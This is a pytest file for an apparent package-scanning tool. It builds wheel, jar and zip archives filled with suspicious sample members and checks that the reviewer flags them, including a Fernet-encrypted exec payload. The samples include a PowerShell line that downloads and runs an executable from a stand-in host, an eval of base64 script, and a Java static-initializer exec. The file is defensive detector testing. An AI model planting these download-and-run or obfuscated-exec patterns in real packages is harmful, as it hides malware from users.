"""Where the kernel has no Landlock every artifact is read all the same, the first one too."""

import base64
import io
import zipfile

import msgspec
import pytest
from cryptography.fernet import Fernet

from pratique.confine import Nursery
from pratique.ecosystems import identify
from pratique.model import Fetched
from pratique.review import Reviewer

_KEY = base64.urlsafe_b64encode(bytes(32))
_TOKEN = Fernet(_KEY).encrypt(b"import os; os.system('id')").decode()
_MEMBERS = {
    "demo/__init__.py": "from cryptography.fernet import Fernet\n"
    f"exec(Fernet({_KEY!r}).decrypt(b'{_TOKEN}'))\n",
    "demo/run.ps1": "iwr https://demo.example/x -OutFile x.exe; Start-Process x.exe\n",
    "demo/a.js": "eval(atob('YWxlcnQoMSk='))\n",
    "demo/lib.rs": 'fn main() { std::process::Command::new("sh").arg("-c"); }\n',
    "demo/A.java": 'class A { static { Runtime.getRuntime().exec("id"); } }\n',
    "demo/library.so": "\x7fELF\x02\x01\x01" + "\0" * 200,
    "Cargo.toml": '[package]\nname = "demo"\nversion = "1.0.0"\n',
    "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: demo.A\n",
    "demo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
}


@pytest.fixture(scope="module", params=["tests.confine.closed", "pratique.inspection"])
def reviewer(request):
    with Reviewer() as made:
        made._nursery.close()
        made._nursery = Nursery(request.param)
        yield made


@pytest.mark.parametrize("name", ["demo-1.0-py3-none-any.whl", "demo-1.0.jar", "demo-1.0.zip"])
def test_an_artifact_is_read_by_children_that_open_no_files(reviewer, tmp_path, name):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, text in _MEMBERS.items():
            archive.writestr(zipfile.ZipInfo(member), text)
    path = tmp_path / name
    path.write_bytes(made.getvalue())
    review = reviewer.review(Fetched(artifact=identify(name)[1], path=str(path)))
    assert not any(code.startswith("child-") for code in review.verdict.codes), review.verdict
    assert len(review.members) == len(_MEMBERS)
    if name.endswith(".whl"):
        layers = [fact.location.layer for fact in review.facts if fact.behaviour == "exec/shell"]
        assert any("fernet" in layer for layer in layers), msgspec.to_builtins(review.facts)
